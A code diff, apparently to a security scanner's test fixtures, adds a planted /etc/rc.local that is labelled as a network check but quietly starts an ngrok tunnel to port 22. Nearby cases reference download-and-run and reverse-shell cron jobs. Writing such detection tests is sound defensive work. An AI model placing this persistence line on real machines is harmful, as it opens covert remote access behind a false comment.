@@ -105,6 +105,18 @@ PLANTED: dict[str, tuple[list[tuple[str, str, int]], str, str]] = {
         "SC-SCRIPT-DOWNLOAD-RUN",
         "/etc/cron.daily/ntp-sync",
     ),
+    "rc-local-quietly-starts-a-tunnel": (
+        [
+            (
+                "/etc/rc.local",
+                "#!/bin/sh -e\n# network check\nnohup /usr/local/bin/ngrok tcp 22 "
+                ">/dev/null 2>&1 &\nexit 0\n",
+                0o755,
+            )
+        ],
+        "SC-SCRIPT-SILENT-TOOL",
+        "/etc/rc.local",
+    ),
     "cron-job-script-runs-a-reverse-shell-script": (
         [
             ("/etc/cron.d/backup", "*/5 * * * * root /usr/local/bin/backup.sh\n", 0o644),
